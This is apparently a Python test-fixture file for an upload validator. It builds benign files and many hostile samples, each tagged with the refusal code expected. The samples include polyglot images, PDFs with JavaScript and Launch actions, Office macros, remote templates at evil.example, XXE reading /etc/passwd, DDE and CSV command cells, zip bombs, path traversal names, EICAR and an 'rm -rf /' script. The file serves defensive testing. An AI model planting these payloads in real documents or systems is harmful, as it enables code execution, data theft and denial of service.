"""Files as people and attackers send them, built in code: no virus scanner ever finds one in this repository."""

import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import cache
from typing import Any

from tests.support.handmade import (
    CFB,
    EICAR,
    EXE,
    OUTSIDE,
    PAGE,
    SCRIPT,
    SVG,
    box,
    chunk,
    duplicated,
    ends_like_pdf,
    gapped,
    gif,
    heic,
    jpeg,
    linked,
    lying,
    nested,
    odf,
    office,
    overlapping,
    packed,
    pdf,
    png,
    relation,
    stream,
    streamed,
    symlink,
    webp,
    zipped,
)


@dataclass(frozen=True, slots=True)
class Case:
    """A file under a name; ``code`` and ``values`` of its refusal, None for a good one."""

    label: str
    name: str
    data: bytes
    code: str | None = None
    values: dict[str, Any] = field(default_factory=dict)


def good() -> Iterator[Case]:
    yield Case("an empty page", "report.pdf", pdf())
    yield Case("a link that looks like a script", "links.pdf", pdf(
        b"<</Subtype/Link/A<</S/URI/URI(https://developer.mozilla.org/Web/JavaScript/Guide)>>>>",
        stream(b"/Filter/FlateDecode", zlib.compress(b"BT (/JS \\(not a script\\)) Tj ET")),
        packed(b"<</Title(/Launch of the product)>>")))
    yield Case("revised and signed", "signed.pdf", pdf() + b"4 0 obj\n<</Type/Sig/Contents<00>>>\nendobj\n%%EOF\n")
    yield Case("picture", "site plan.png", png())
    yield Case("photo", "IMG_0001.JPG", jpeg())
    yield Case("photo with smaller ones after it", "IMG_0002.jpeg", jpeg() + jpeg())
    yield Case("photo with a film after it", "motion.jpg", jpeg() + box(b"ftyp", b"mp42") + box(b"mdat", bytes(90)))
    yield Case("animation", "steps.gif", gif(comment=b"made by us"))
    yield Case("web picture", "chart.webp", webp())
    yield Case("photo of a phone", "IMG_0003.HEIC", heic())
    yield Case("photo of another phone", "IMG_0004.heic", heic(brand=b"mif1"))
    yield Case("text", "合同.txt", "Müller, 合同, عقد\r\n".encode())
    yield Case("text in UTF-16", "notes.txt", "Zürich\r\n".encode("utf-16"))
    yield Case("table", "lamps.csv", b"\xef\xbb\xbfroom;lamps;change\n1;12;-3\n2;8;=B1+1\n")
    yield Case("letter with a picture, a link and the author's template", "letter.docx", office(more={
        "word/media/image1.png": png(),
        "word/media/image2.emz": b"\x1f\x8b\x08\0" + bytes(40),
        "word/theme/theme1.xml": '<?xml version="1.0"?><a:theme xmlns:a="urn:a"/>',
        "word/_rels/document.xml.rels": relation("hyperlink", "https://example.org/a?b=1&amp;c=2", OUTSIDE),
        "word/_rels/settings.xml.rels": relation(
            "attachedTemplate", "file:///C:\\Users\\Ann\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm", OUTSIDE),
    }))
    yield Case("workbook with a table and printer settings", "costs.xlsx", office("xlsx", {
        "xl/tables/table1.xml": '<?xml version="1.0"?>\r\n<table xmlns="urn:t" id="1"/>',
        "xl/printerSettings/printerSettings1.bin": bytes(100),
        "xl/externalLinks/_rels/a.xml.rels": relation("externalLinkPath", "file:///S:\\costs.xlsx", OUTSIDE),
    }))
    yield Case("slides with a chart's workbook", "offer.pptx", office("pptx", {
        "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": office("xlsx")}))
    yield Case("written as a stream", "stream.xlsx", streamed())
    yield Case("part in UTF-16", "wide.docx", office(more={
        "customXml/item1.xml": '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16")}))
    yield Case("open document", "minutes.odt", odf(more={"Basic/script-lc.xml": "<library/>"}))
    yield Case("open spreadsheet", "table.ods", odf("spreadsheet"))
    yield Case("open slides", "talk.odp", odf("presentation"))


@cache
def hostile() -> tuple[Case, ...]:
    return (*_types(), *_disguised(), *_pictures(), *_pdfs(), *_office_files(), *_zips(), *_texts())


def _types() -> Iterator[Case]:
    def refused(label: str, name: str, data: bytes, kind: str) -> Case:
        return Case(label, name, data, "upload.type", {"kind": kind})

    yield refused("SVG with a script", "logo.svg", SVG, "drawing")
    yield refused("HTML", "page.html", PAGE, "web_page")
    yield refused("program", "setup.exe", EXE, "program")
    yield refused("script", "go.js", b"alert(1)", "program")
    yield refused("program behind a reversed name", "invoice\u202efdp.exe", EXE, "program")
    yield refused("program behind spaces", "invoice.pdf" + " " * 120 + ".exe", EXE, "program")
    yield refused("program behind a NUL", "invoice.pdf\0.exe", EXE, "program")
    yield refused("macro document", "letter.docm", office(), "macro")
    yield refused("zip", "plan.zip", zipped({"a.txt": "a"}), "archive")
    yield refused("EICAR in a zip", "eicar.zip", zipped({"eicar.com": EICAR}), "archive")
    yield refused("42-style bomb", "42.zip", nested(2), "archive")
    yield refused("old office", "letter.doc", CFB, "old_office")
    yield refused("no extension", "README", b"hello", "unknown")
    yield refused("a name that is only an extension of another", "pdf", pdf(), "unknown")
    yield refused("unknown extension", "a.xyz", b"hello", "unknown")


def _disguised() -> Iterator[Case]:
    def refused(label: str, name: str, data: bytes, found: str) -> Case:
        return Case(label, name, data, "upload.disguised", {"found": found})

    for extension in ("pdf", "docx", "png", "txt", "csv", "jpg", "xlsx"):
        yield refused(f"HTML as {extension}", f"offer.{extension}", PAGE, "web_page")
    yield refused("SVG as PNG", "logo.png", SVG, "drawing")
    yield refused("SVG as text", "logo.txt", SVG, "drawing")
    yield refused("HTML in UTF-16 as text", "page.txt", PAGE.decode().encode("utf-16"), "web_page")
    yield refused("program as PDF", "offer.pdf", EXE, "program")
    yield refused("ELF as picture", "a.png", b"\x7fELF\x02\x01\x01" + bytes(60), "program")
    yield refused("shell script as text", "read.txt", b"#!/bin/sh\nrm -rf /\n", "program")
    yield refused("picture as PDF", "scan.pdf", png(), "png")
    yield refused("PDF as picture", "scan.png", pdf(), "pdf")
    yield refused("plain zip as docx", "data.docx", zipped({"a.txt": "a"}), "archive")
    yield refused("RAR as docx", "data.docx", b"Rar!\x1a\x07\x01\0" + bytes(60), "archive")
    yield refused("spreadsheet as letter", "data.docx", office("xlsx"), "xlsx")
    yield refused("open document as slides", "data.odp", odf(), "odt")
    yield refused("docx as open document", "data.odt", office(), "docx")
    yield refused("old office as new", "data.docx", CFB, "old_office")
    yield refused("text as PDF", "data.pdf", b"just words", "text")
    yield refused("film as photo", "data.jpg", box(b"ftyp", b"isom", bytes(4)) + bytes(40), "video")
    yield refused("PDF and zip", "both.pdf", pdf() + zipped({"a.exe": EXE}), "archive")
    yield refused("PDF and zip that ends like a PDF", "both.pdf", ends_like_pdf(), "archive")
    yield refused("PDF and program", "both.pdf", pdf() + EXE, "program")
    yield refused("PDF and HTML after it", "both.pdf", pdf() + PAGE, "web_page")
    yield refused("HTML, then PDF", "both.pdf", PAGE + pdf(), "web_page")
    yield refused("PDF with HTML in its first comment", "both.pdf",
                  pdf().replace(b"\xe2\xe3", b"<script>alert(1)</script>", 1), "web_page")
    yield refused("GIF and JavaScript", "both.gif", gif(0x2A2F, 2) + b"*/=1;alert(1)//", "program")
    yield refused("GIF and JavaScript after it", "both.gif", gif() + b"/**/=1;alert(1)//", "text")
    yield refused("JPEG and JavaScript", "both.jpg", jpeg(app=b"\xff\xe0/*" + bytes(0x2F2A - 2)) + b"*/=1;a(1)",
                  "program")
    yield refused("JPEG and JavaScript after it", "both.jpg", jpeg() + b"=1;alert(1)//", "text")
    yield refused("JPEG and PHP", "both.jpg", jpeg(app=b"\xff\xfe\0\x16<?php system(1); ?>"), "web_page")
    yield refused("PNG and zip", "both.png", png() + zipped({"a": "b"}), "archive")
    yield refused("PNG and RAR", "both.png", png() + b"Rar!\x1a\x07\0", "archive")
    yield refused("PNG with a page in its text", "both.png", png()[:33] + chunk(b"tEXt", b"a\0" + PAGE) + png()[33:],
                  "web_page")
    yield refused("PNG that is a PDF too", "both.png", png()[:33] + chunk(b"tEXt", b"a\0%PDF-1.4") + png()[33:], "pdf")
    yield refused("WebP and more", "both.webp", webp() + b"alert(1)//", "text")
    yield refused("docx and more", "both.docx", office() + EXE, "archive")
    yield refused("something before a docx", "both.docx", EXE + office(), "program")


def _pictures() -> Iterator[Case]:
    def bomb(label: str, name: str, data: bytes) -> Case:
        return Case(label, name, data, "upload.bomb", {"what": "pixels"})

    yield bomb("100,000 pixels wide", "wide.png", png(100_000, 1))
    yield bomb("many pixels", "many.png", png(20_000, 20_000))
    yield bomb("many pixels in JPEG", "many.jpg", jpeg(60_000, 60_000))
    yield bomb("many pixels in GIF", "many.gif", gif(60_000, 60_000))
    yield bomb("many pixels in WebP", "many.webp", webp(16_000, 16_000))
    yield bomb("many pixels in HEIC", "many.heic", heic(100_000, 100_000))
    for extension, data in {"png": png(), "jpg": jpeg(), "gif": gif(), "webp": webp(), "heic": heic()}.items():
        yield Case(f"half a {extension}", f"half.{extension}", data[:-9], "upload.broken")
    yield Case("no pixels", "none.png", png(0, 0), "upload.broken", {"why": "size"})


def _pdfs() -> Iterator[Case]:
    def active(label: str, data: bytes, what: str) -> Case:
        return Case(label, "offer.pdf", data, "upload.active", {"what": what})

    yield active("script at opening", pdf(SCRIPT, root=b"/OpenAction 4 0 R"), "script")
    yield active("script in the list of names", pdf(root=b"/Names<</JavaScript<</Names[(a)4 0 R]>>>>"), "script")
    yield active("script spelled in numbers", pdf(b"<</#53/J#61vaScr#69pt/J#53(1)>>"), "script")
    yield active("script behind a comment", pdf(b"<</S %x\n /JavaScript /JS 5 0 R>>"), "script")
    yield active("script without a kind", pdf(b"<</JS(app.alert\\(1\\))>>"), "script")
    yield active("script address", pdf(b"<</S/URI/URI(javascript:alert\\(1\\))>>"), "script")
    yield active("script in packed objects", pdf(packed(SCRIPT)), "script")
    yield active("script in packed objects, spelled in numbers",
                 pdf(packed(SCRIPT, b"/Type/Obj#53tm/N 1/F#69rst 4/Filter/Fl#61teDecode")), "script")
    yield active("script in packed objects behind a false object",
                 pdf(packed(SCRIPT, b"/Type/ObjStm/X(1 0 obj stream\n)/N 1/First 4/Filter/FlateDecode")), "script")
    yield active("script in packed objects, far in",
                 pdf(packed(b" " * 300_000 + SCRIPT)), "script")
    yield active("packed objects in another packing",
                 pdf(stream(b"/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]", b"00>")), "hidden")
    yield active("launch", pdf(b"<</S/Launch/F(cmd.exe)>>"), "launch")
    yield active("file inside", pdf(stream(b"/Type/EmbeddedFile", EXE)), "embedded")
    yield active("file inside without a type", pdf(b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>"), "embedded")
    yield active("file at a place", pdf(b"<</Subtype/FileAttachment/FS 5 0 R>>"), "embedded")
    yield active("film with a script", pdf(b"<</S/Rendition/JS(1)>>"), "script")
    yield active("form of its own", pdf(root=b"/AcroForm<</XFA[(a)4 0 R]>>"), "form")
    yield Case("locked", "locked.pdf", pdf(tail=b"/Encrypt 4 0 R"), "upload.locked")
    yield Case("packed twice", "twice.pdf", pdf(stream(b"/Filter[/FlateDecode /FlateDecode]", b"x")), "upload.bomb",
               {"what": "nested"})
    yield Case("packed objects without end", "bomb.pdf", pdf(packed(bytes(140_000_000))), "upload.bomb",
               {"what": "size"})
    yield Case("packed objects that are none", "bad.pdf",
               pdf(stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", b"nothing")), "upload.broken")
    yield Case("half a PDF", "half.pdf", pdf()[:200], "upload.broken", {"why": "cut"})


def _office_files() -> Iterator[Case]:
    def active(label: str, data: bytes, what: str, name: str = "letter.docx") -> Case:
        return Case(label, name, data, "upload.active", {"what": what})

    yield active("macro", office(more={"word/vbaProject.bin": CFB}), "macro")
    yield active("macro under another name", office(more={"word/data.bin": CFB}), "embedded")
    yield active("macro by relation", linked("vbaProject", "data.xml", ""), "macro")
    yield active("macro type", office(types='<Override PartName="/a" ContentType="application/vnd.ms-word.document.'
                                            'macroEnabled.main+xml"/>'), "macro")
    yield active("old macro sheet", office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"}), "macro", "a.xlsx")
    yield active("ActiveX", office(more={"word/activeX/activeX1.xml": "<a/>"}), "macro")
    yield active("remote template", linked("attachedTemplate", "https://evil.example/t.dotm"), "external")
    yield active("template on a share", linked("attachedTemplate", "file:///\\\\evil.example\\t.dotm"), "external")
    yield active("template spelled in numbers", linked("attachedTemplate", "&#104;ttps://evil.example/t"), "external")
    yield active("remote object", linked("oleObject", "https://evil.example/a"), "embedded")
    yield active("remote frame", linked("frame", "https://evil.example/a.html"), "external")
    yield active("picture on a share", linked("image", "\\\\evil.example\\a.png"), "external")
    yield active("script link", linked("hyperlink", " javascript:alert(1)"), "external")
    yield active("HTML part", linked("aFChunk", "a.xml", ""), "embedded")
    yield active("HTML inside", office(more={"word/a.bin": PAGE}), "embedded")
    yield active("program inside", office(more={"word/embeddings/a.bin": EXE}), "embedded")
    yield active("program by name", office(more={"word/media/a.js": "1"}), "embedded")
    yield active("OLE package", office(more={"word/embeddings/oleObject1.bin": CFB}), "embedded")
    yield active("zip inside", office(more={"word/media/a.bin": zipped({"b": "c"})}), "embedded")
    yield active("macro in an embedded workbook", office("pptx", {
        "ppt/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": CFB})}), "macro", "a.pptx")
    yield active("workbook in a workbook in slides", office("pptx", {
        "ppt/embeddings/a.xlsx": office("xlsx", {"xl/embeddings/b.xlsx": office("xlsx")})}), "embedded", "a.pptx")
    yield active("EICAR inside", office(more={"word/media/a.txt": EICAR}), "virus")
    laughs = '<!DOCTYPE a [<!ENTITY b "ha">]><a>&b;</a>'
    dde_link = '<externalLink><ddeLink ddeService="cmd"/></externalLink>'
    xxe = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    yield active("XXE", office(more={"word/styles.xml": xxe}), "entities")
    yield active("XXE in UTF-16", office(more={"word/styles.xml": xxe.encode("utf-16")}), "entities")
    yield active("XXE in relations", office(more={"word/_rels/a.rels": xxe}), "entities")
    yield active("XXE under another name", office(more={"word/styles.dat": xxe}), "entities")
    yield active("billion laughs", office(more={"word/styles.xml": laughs}), "entities")
    yield active("DDE field", office(more={"word/a.xml": "<w:instrText>DDEAUTO cmd</w:instrText>"}), "command")
    yield active("DDE link", office("xlsx", {"xl/externalLinks/a.xml": dde_link}), "command", "a.xlsx")
    yield active("open document with Basic", odf(more={"Basic/Standard/Module1.xml": "<a/>"}), "macro", "a.odt")
    yield active("open document with a script", odf(more={"Scripts/python/a.txt": "1"}), "macro", "a.odt")
    yield active("open document with a listener", odf(content='<script:event-listener x="1"/>'), "macro", "a.odt")
    yield active("open document with a frame", odf(content="<draw:floating-frame/>"), "external", "a.odt")
    yield active("open document with an object", odf(more={"Object 1": CFB}), "embedded", "a.odt")
    yield Case("XML in EBCDIC", "a.docx", office(more={"word/styles.xml": xxe.encode("cp037")}), "upload.broken",
               {"why": "encoding"})
    yield Case("XML in UTF-7", "a.docx", office(more={"word/a.xml": '<?xml version="1.0" encoding="UTF-7"?>+ADw-a'}),
               "upload.broken", {"why": "encoding"})
    yield Case("docx with a password", "a.docx", CFB + "EncryptedPackage".encode("utf-16-le"), "upload.locked")
    yield Case("open document with a password", "a.odt", odf(manifest="<m:a><m:encryption-data/></m:a>"),
               "upload.locked")


def _zips() -> Iterator[Case]:
    def case(label: str, data: bytes, code: str, **values: str) -> Case:
        return Case(label, "data.docx", data, code, values)

    yield case("bomb", office(more={"word/media/a.bin": bytes(210_000_000)}), "upload.bomb", what="size")
    yield case("small bomb", office(more={"word/media/a.bin": bytes(20_000_000)}), "upload.bomb", what="size")
    yield case("many members", office(more={f"word/{n}.xml": "" for n in range(5_001)}), "upload.bomb", what="members")
    yield case("overlap", overlapping(), "upload.broken", why="structure")
    yield case("quoted overlap", overlapping(quoted=True), "upload.bomb", what="overlap")
    yield case("bomb in an embedded workbook", office("docx", {
        "word/embeddings/a.xlsx": office("xlsx", {"xl/a.bin": bytes(20_000_000)})}), "upload.bomb", what="size")
    yield case("a member that lies", lying(), "upload.bomb", what="size")
    for name in ("../../evil.xml", "/etc/evil.xml", "word\\..\\evil.xml", "C:/evil.xml", "word//evil.xml"):
        yield case(f"slip to {name}", office(more={name: "<a/>"}).replace(b"word/..\\evil", b"word\\..\\evil"),
                   "upload.broken", why="names")
    yield case("symlink", symlink(), "upload.broken", why="names")
    yield case("a name twice", duplicated(), "upload.broken", why="structure")
    yield case("a program between the members", gapped(), "upload.broken", why="structure")
    yield case("half a docx", office()[:-30], "upload.broken", why="cut")
    yield case("damaged", office().replace(b"PK\x01\x02", b"PK\x01\x03", 1), "upload.broken", why="structure")
    locked = bytearray(office())
    locked[6] |= 1
    yield case("encrypted member", bytes(locked), "upload.locked")


def _texts() -> Iterator[Case]:
    yield Case("nothing", "empty.pdf", b"", "upload.empty")
    yield Case("EICAR", "eicar.txt", EICAR, "upload.active", {"what": "virus"})
    yield Case("NUL in a text", "a.txt", b"hello\0there", "upload.broken", {"why": "binary"})
    yield Case("terminal codes in a text", "a.txt", b"hello \x1b[2J", "upload.broken", {"why": "binary"})
    yield Case("Latin-1", "a.csv", b"M\xfcller;1\n", "upload.broken", {"why": "encoding"})
    yield Case("a cell that is a command", "a.csv", b"a,b\n=cmd|' /C calc'!A0,1\n", "upload.active",
               {"what": "command"})
    yield Case("too large", "plan.pdf", pdf() + bytes(1 << 20), "upload.too_large", {"limit_mb": 1, "size_mb": 2})
